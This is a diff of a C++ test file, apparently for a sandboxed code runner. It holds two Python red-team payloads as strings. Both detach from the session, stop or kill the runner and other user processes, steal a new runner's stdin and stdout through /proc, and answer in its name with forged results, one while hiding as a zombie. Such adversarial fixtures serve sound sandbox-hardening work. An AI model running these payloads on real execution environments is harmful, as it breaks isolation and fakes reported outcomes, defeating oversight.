@@ -82,21 +82,22 @@ for p, what in sorted(targets.items()):
     print(what, ' '.join(tries))
 )";
 
-// A cell that leaves a process which stops the runner, then every new process of the
-// session user (the plain clean-up's shell among them), and catches the next runner in its
-// first milliseconds, still dumpable: it opens its fds 0 and 1 and answers in its name.
-const std::string resist_and_impersonate = R"(import os, sys, time, signal, struct
+// What the two cells below share: the runner found (the cell's parent is `timeout`, its
+// parent the runner), a process that leaves the cell's session with nothing open, and
+// serve(): the runner's protocol answered from fds of a caught runner, every cell FORGED.
+// `parent` is what the cell's own process does meanwhile.
+std::string left_behind(std::string_view parent, std::string_view rest) {
+  return std::string(R"(import os, sys, time, signal, struct, threading, ctypes
 def ppid(p):
     s = open('/proc/%d/stat' % p).read(); return int(s[s.rfind(')') + 2:].split()[1])
 runner = ppid(os.getppid())
 if os.fork():
-    time.sleep(0.5); print('left one'); sys.exit(0)
+    )") + std::string(parent) + R"(
 os.setsid()
 if os.fork(): os._exit(0)
 for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGPIPE): signal.signal(s, signal.SIG_IGN)
 null = os.open('/dev/null', os.O_RDWR)
 for fd in (0, 1, 2): os.dup2(null, fd)
-os.kill(runner, signal.SIGSTOP)
 def uid(p):
     try:
         for l in open('/proc/%d/status' % p):
@@ -105,7 +106,11 @@ def uid(p):
 def cmd(p):
     try: return open('/proc/%d/cmdline' % p, 'rb').read()
     except OSError: return b''
-seen = {int(p) for p in os.listdir('/proc') if p.isdigit()}
+def catch(p):
+    try:
+        return os.open('/proc/%d/fd/0' % p, os.O_RDONLY), os.open('/proc/%d/fd/1' % p, os.O_WRONLY)
+    except OSError:
+        return None
 def serve(rfd, wfd):
     def send(k, pl=b''): os.write(wfd, k + struct.pack('>I', len(pl)) + pl)
     def rd(n):
@@ -123,6 +128,14 @@ def serve(rfd, wfd):
             send(b'O', b'FORGED\n'); send(b'X', b'0 0 0'); send(b'L', b'0\n0\n\0'); send(b'D')
         else:
             send(b'X', b'0 0 0')
+)" + std::string(rest);
+}
+
+// A cell that leaves a process which stops the runner, then every new process of the
+// session user (the plain clean-up's shell among them), and catches the next runner in its
+// first milliseconds, still dumpable: it opens its fds 0 and 1 and answers in its name.
+const std::string resist_and_impersonate = left_behind("time.sleep(0.5); print('left one'); sys.exit(0)", R"(os.kill(runner, signal.SIGSTOP)
+seen = {int(p) for p in os.listdir('/proc') if p.isdigit()}
 while True:
     for p in os.listdir('/proc'):
         if not p.isdigit() or int(p) in seen: continue
@@ -135,87 +148,44 @@ while True:
         if c.startswith(b'cat\0'): seen.add(p); continue
         os.kill(p, signal.SIGSTOP); seen.add(p)
         if c.startswith(b'python3\0-I\0-c'):
-            try:
-                r = os.open('/proc/%d/fd/0' % p, os.O_RDONLY); w = os.open('/proc/%d/fd/1' % p, os.O_WRONLY)
-            except OSError:
-                continue
-            if os.fork() == 0:
-                serve(r, w); os._exit(0)
+            fds = catch(p)
+            if fds and os.fork() == 0:
+                serve(*fds); os._exit(0)
     time.sleep(0.0005)
-)";
+)");
 
 // The same, killing instead of stopping (the runner first, then each new process but the
 // next runner: nothing stopped is left to see), hidden as a zombie: its leader exits while
 // a thread of it goes on, which ps shows as "Zl" (from the second red-team pass).
-const std::string resist_as_zombie = R"(import os, sys, time, signal, struct, threading, ctypes
-def ppid(p):
-    s = open('/proc/%d/stat' % p).read(); return int(s[s.rfind(')')+2:].split()[1])
-runner = ppid(os.getppid())
-if os.fork():
-    print("left one", flush=True); time.sleep(5); sys.exit(0)
-os.setsid()
-if os.fork(): os._exit(0)
-for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGPIPE): signal.signal(s, signal.SIG_IGN)
-devnull = os.open('/dev/null', os.O_RDWR)
-for fd in (0, 1, 2): os.dup2(devnull, fd)
-def L(*a): pass
-me = os.getpid()
-def uid(p):
-    try:
-        for l in open('/proc/%d/status' % p):
-            if l.startswith('Uid:'): return int(l.split()[1])
-    except OSError: return None
-def cmd(p):
-    try: return open('/proc/%d/cmdline' % p, 'rb').read()
-    except OSError: return b''
+const std::string resist_as_zombie = left_behind("print('left one', flush=True); time.sleep(5); sys.exit(0)", R"(me = os.getpid()
 held = set()
-def serve(rfd, wfd, fake_pid):
-    def send(k, pl=b''): os.write(wfd, k + struct.pack('>I', len(pl)) + pl)
-    def rd(n):
-        b = b''
-        while len(b) < n:
-            g = os.read(rfd, n - len(b))
-            if not g: raise SystemExit
-            b += g
-        return b
-    send(b'H', b'dockgate-runner 2 %d' % fake_pid)
-    while True:
-        (n,) = struct.unpack('>I', rd(4)); body = rd(n)
-        L('request', body[:200])
-        send(b'S')
-        if body[:1] == b'C':
-            send(b'O', b'FORGED\n')
-            send(b'X', b'0 0 0'); send(b'L', b'0\n0\n\0'); send(b'D')
-        else:
-            send(b'X', b'0 0 0')
 def loop():
     try:
-        os.kill(runner, signal.SIGKILL); L('killed runner', runner)
-    except OSError as e: L('kill runner', e)
+        os.kill(runner, signal.SIGKILL)
+    except OSError:
+        pass
     while True:
         for p in os.listdir('/proc'):
             if not p.isdigit(): continue
             p = int(p)
-            if p == me or p in held: continue
-            if uid(p) != 1000: continue
+            if p == me or p in held or uid(p) != 1000: continue
             c = cmd(p)
             if c == b'' or c.startswith(b'runc\0'): continue
             if c.startswith(b'python3\0-I\0-c'):
                 os.kill(p, signal.SIGSTOP); held.add(p)
-                try:
-                    r = os.open('/proc/%d/fd/0' % p, os.O_RDONLY); w = os.open('/proc/%d/fd/1' % p, os.O_WRONLY)
-                except OSError as e:
-                    L('runner', p, 'fds refused', e); os.kill(p, signal.SIGKILL); continue
-                L('caught runner', p)
-                threading.Thread(target=serve, args=(r, w, p), daemon=True).start()
+                fds = catch(p)
+                if fds:
+                    threading.Thread(target=serve, args=fds, daemon=True).start()
+                else:
+                    os.kill(p, signal.SIGKILL)
                 continue
-            try: os.kill(p, signal.SIGKILL); L('killed', p, c[:80])
+            try: os.kill(p, signal.SIGKILL)
             except OSError: pass
         time.sleep(0.0005)
 threading.Thread(target=loop).start()
 time.sleep(0.05)
-ctypes.CDLL(None).syscall(60, 0)   # the leader exits: ps shows Zl
-)";
+ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: the leader ends, its thread runs on ("Zl")
+)");
 
 }  // namespace
 
